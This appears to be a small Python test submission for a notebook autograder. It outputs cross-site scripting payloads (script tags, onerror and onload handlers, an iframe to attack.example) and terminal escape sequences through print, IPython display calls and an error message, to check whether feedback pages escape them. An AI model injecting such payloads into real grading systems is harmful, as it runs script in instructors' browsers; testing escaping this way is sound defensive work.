"""Displays script, event handlers and terminal escapes for the instructor's browser.

Succeeds if any of it reaches a feedback page or the autograded notebook unescaped.
"""

from IPython.display import HTML, SVG, Javascript, display

print("<script>alert(1)</script><img src=x onerror=alert(1)> \x1b]0;owned\x07\x1b[2J")
display(HTML("<script>alert(1)</script><iframe src='//attack.example'></iframe>"))
display(Javascript("alert(1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
raise ValueError("</pre><script>alert(1)</script>")
